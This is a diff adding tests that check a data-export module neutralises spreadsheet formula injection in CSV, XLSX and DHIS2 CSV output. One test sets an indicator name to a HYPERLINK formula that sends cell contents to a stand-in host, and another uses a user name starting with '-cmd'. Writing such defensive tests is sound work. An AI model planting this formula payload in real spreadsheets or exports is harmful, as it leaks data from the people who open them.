@@ -112,3 +112,40 @@ def test_a_text_value_starting_with_a_formula_sign_is_neutralised(form, bo_y, in
     DataValue.objects.create(indicator=indicator, unit=bo_y, period="2026", value="+1 (mới)")
     rows = list(csv.reader(StringIO(exported(Format.CSV))))
     assert rows[1][3] == "'+1 (mới)"
+
+
+def formulas(content: bytes) -> list[str]:
+    """Every cell of every sheet that a spreadsheet would run."""
+    book = load_workbook(BytesIO(content))
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
+    ]
+
+
+def test_a_hostile_indicator_name_reaches_the_xlsx_header_as_text(stored, indicators):
+    # given an indicator renamed to a live formula by a commune administrator
+    indicator = indicators["SCHEMES_NEW"]
+    indicator.name = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+    indicator.unit_of_measure = ""
+    indicator.save()
+    # when the XLSX template is exported
+    content = exported(Format.XLSX)
+    # then no cell is a formula, and the header holds the name as text
+    assert formulas(content) == []
+    sheet = load_workbook(BytesIO(content))["Số liệu"]
+    headers = [cell.value for cell in sheet[1]]
+    assert "'" + indicator.name in headers
+
+
+def test_a_hostile_user_name_is_neutralised_in_the_dhis2_csv(stored, make_user, bo_y):
+    # given a value last saved by a user whose name starts with a formula sign
+    user = make_user("-cmd", units=(bo_y,))
+    DataValue.objects.filter(indicator__code="SCHEMES_NEW").update(updated_by=user)
+    # when
+    rows = list(csv.reader(StringIO(exported(Format.DHIS2_CSV))))
+    # then
+    assert [row[6] for row in rows[1:] if row[0] == "SCHEMES_NEW"] == ["'-cmd"]
